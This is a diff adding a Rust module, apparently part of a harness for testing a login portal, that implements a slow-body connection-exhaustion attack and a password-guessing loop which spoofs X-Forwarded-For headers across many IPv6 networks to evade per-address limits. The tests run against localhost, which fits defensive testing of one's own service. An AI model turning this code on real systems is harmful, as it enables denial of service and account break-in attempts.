@@ -1,0 +1,243 @@
+//! Attacks on a portal by HTTP: requests that never end, and guesses at an account's password. Beside them the little
+//! of HTTP that an honest person needs.
+
+use std::io::{self, ErrorKind, Read as _, Write as _};
+use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpStream};
+use std::time::Duration;
+
+use rustix::io::Errno;
+use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with};
+
+use super::Attack;
+
+/// How long an answer may take before there is none.
+const PATIENCE: Duration = Duration::from_secs(10);
+
+/// An answer of a portal.
+pub struct Answer {
+    /// The status.
+    pub status: u16,
+    /// The cookies that it sets, `NAME=VALUE`.
+    pub cookies: Vec<String>,
+}
+
+/// Asks a portal.
+///
+/// # Errors
+/// There is no answer, or none of HTTP.
+pub fn ask(
+    portal: SocketAddr,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: &str,
+) -> io::Result<Answer> {
+    let mut stream = TcpStream::connect_timeout(&portal, PATIENCE)?;
+    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.set_write_timeout(Some(PATIENCE))?;
+    let mut request =
+        format!("{method} {path} HTTP/1.1\r\nhost: {portal}\r\nconnection: close\r\n");
+    for (name, value) in headers {
+        request += &format!("{name}: {value}\r\n");
+    }
+    if !body.is_empty() {
+        let length = body.len();
+        request += &format!("content-type: application/json\r\ncontent-length: {length}\r\n");
+    }
+    stream.write_all((request + "\r\n" + body).as_bytes())?;
+    let mut answer = Vec::new();
+    stream.read_to_end(&mut answer)?;
+    read(&String::from_utf8_lossy(&answer)).ok_or_else(|| ErrorKind::InvalidData.into())
+}
+
+fn read(answer: &str) -> Option<Answer> {
+    let (head, _) = answer.split_once("\r\n\r\n")?;
+    let mut lines = head.lines();
+    let status = lines.next()?.split(' ').nth(1)?.parse().ok()?;
+    let headers = lines.filter_map(|line| line.split_once(": "));
+    let set = headers.filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"));
+    let cookies = set.filter_map(|(_, value)| Some(value.split(';').next()?.to_owned()));
+    Some(Answer {
+        status,
+        cookies: cookies.collect(),
+    })
+}
+
+/// A log-in, as JSON.
+#[must_use]
+pub fn log_in(name: &str, password: &str) -> String {
+    format!("{{\"name\":\"{name}\",\"password\":\"{password}\"}}")
+}
+
+/// Connections that each have begun a log-in, and never send its body: as many as it may have, and a new one for
+/// each that the portal closes.
+pub struct SlowBodies {
+    portal: SocketAddr,
+    from: Vec<IpAddr>,
+    slots: Vec<Slot>,
+}
+
+enum Slot {
+    Free,
+    /// It may not be through yet.
+    Open(TcpStream),
+    Asked(TcpStream),
+}
+
+impl SlowBodies {
+    /// `count` connections from these addresses of this machine.
+    #[must_use]
+    pub fn new(portal: SocketAddr, from: Vec<IpAddr>, count: usize) -> SlowBodies {
+        SlowBodies {
+            portal,
+            from,
+            slots: (0..count).map(|_| Slot::Free).collect(),
+        }
+    }
+
+    /// Connections that the portal holds at present.
+    #[must_use]
+    pub fn held(&self) -> usize {
+        let is_held = |slot: &&Slot| match slot {
+            Slot::Asked(stream) => is_open(stream),
+            _ => false,
+        };
+        self.slots.iter().filter(is_held).count()
+    }
+
+    fn open(&self, n: usize) -> io::Result<TcpStream> {
+        let family = match self.portal {
+            SocketAddr::V4(_) => AddressFamily::INET,
+            SocketAddr::V6(_) => AddressFamily::INET6,
+        };
+        let flags = SocketFlags::NONBLOCK | SocketFlags::CLOEXEC;
+        let stream = socket_with(family, SocketType::STREAM, flags, None)?;
+        let from = self.from[n % self.from.len()];
+        bind(&stream, &SocketAddr::new(from, 0))?;
+        match connect(&stream, &self.portal) {
+            Ok(()) | Err(Errno::INPROGRESS) => Ok(stream.into()),
+            Err(why) => Err(why.into()),
+        }
+    }
+}
+
+impl Attack for SlowBodies {
+    fn strike(&mut self, n: u64) -> io::Result<()> {
+        let at = usize::try_from(n).unwrap_or(0) % self.slots.len();
+        let (next, done) = match std::mem::replace(&mut self.slots[at], Slot::Free) {
+            Slot::Free => (Slot::Open(self.open(at)?), Ok(())),
+            Slot::Open(mut stream) => match stream.write_all(BEGUN) {
+                Ok(()) => (Slot::Asked(stream), Ok(())),
+                Err(why) if is_waiting(&why) => (Slot::Open(stream), Err(why)),
+                Err(why) => (Slot::Free, Err(why)),
+            },
+            Slot::Asked(stream) => match is_open(&stream) {
+                true => (Slot::Asked(stream), Err(ErrorKind::WouldBlock.into())),
+                false => (Slot::Free, Err(ErrorKind::ConnectionReset.into())),
+            },
+        };
+        self.slots[at] = next;
+        done
+    }
+}
+
+/// A log-in with the first byte of its body.
+const BEGUN: &[u8] =
+    b"POST /api/login HTTP/1.1\r\nhost: portal\r\ncontent-type: application/json\r\n\
+                       content-length: 100\r\n\r\n{";
+
+fn is_waiting(why: &io::Error) -> bool {
+    matches!(why.kind(), ErrorKind::WouldBlock | ErrorKind::NotConnected)
+}
+
+/// Whether the other end has neither answered nor closed it.
+fn is_open(mut stream: &TcpStream) -> bool {
+    matches!(stream.read(&mut [0; 512]), Err(why) if is_waiting(&why))
+}
+
+/// Wrong passwords for one account, each from another address of the same /64, or of as many as there are. Addresses
+/// are told as a proxy does it: a machine rarely has so many.
+pub struct Guessing {
+    portal: SocketAddr,
+    name: String,
+    networks: u16,
+    compared: u64,
+}
+
+impl Guessing {
+    /// At this account, from so many networks.
+    #[must_use]
+    pub fn new(portal: SocketAddr, name: &str, networks: u16) -> Guessing {
+        Guessing {
+            portal,
+            name: name.to_owned(),
+            networks,
+            compared: 0,
+        }
+    }
+
+    /// Guesses that the portal has compared with the password.
+    #[must_use]
+    pub fn compared(&self) -> u64 {
+        self.compared
+    }
+}
+
+impl Attack for Guessing {
+    fn strike(&mut self, n: u64) -> io::Result<()> {
+        // Of the block for documentation (RFC 3849).
+        let network = u16::try_from(n % u64::from(self.networks)).unwrap_or(0);
+        let address = u16::try_from(n % 0xffff).unwrap_or(0);
+        let from = Ipv6Addr::new(0x2001, 0xdb8, 0, network, 0, 0, 0, address).to_string();
+        let headers = [("x-forwarded-for", from.as_str())];
+        let guess = log_in(&self.name, &format!("wrong password {n}"));
+        let answer = ask(self.portal, "POST", "/api/login", &headers, &guess)?;
+        self.compared += u64::from(answer.status == 401);
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_answer_is_read() {
+        let text =
+            "HTTP/1.1 200 OK\r\nSet-Cookie: a=1; Path=/\r\nx: y\r\nset-cookie: b=2\r\n\r\n{}";
+        let answer = read(text).unwrap();
+        assert_eq!(
+            (answer.status, answer.cookies),
+            (200, vec!["a=1".to_owned(), "b=2".to_owned()])
+        );
+        assert!(read("nonsense").is_none());
+        assert!(read("HTTP/1.1 no\r\n\r\n").is_none());
+    }
+
+    #[test]
+    fn bodies_are_slow_until_the_other_end_has_enough() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let portal = listener.local_addr().unwrap();
+        let mut slow = SlowBodies::new(portal, vec![IpAddr::from([127, 0, 0, 1])], 3);
+        let mut taken = Vec::new();
+        // Each slot is opened, and asked on as soon as it is through.
+        for n in 0..100_000 {
+            let _ = slow.strike(n);
+            if n < 3 {
+                taken.push(listener.accept().unwrap().0);
+            }
+            if slow.held() == 3 {
+                break;
+            }
+        }
+        assert_eq!(slow.held(), 3);
+        let mut request = vec![0; BEGUN.len()];
+        taken[0].read_exact(&mut request).unwrap();
+        assert_eq!(request, BEGUN);
+        drop(taken.pop());
+        while slow.held() == 3 {
+            std::thread::yield_now();
+        }
+        assert_eq!(slow.held(), 2);
+    }
+}
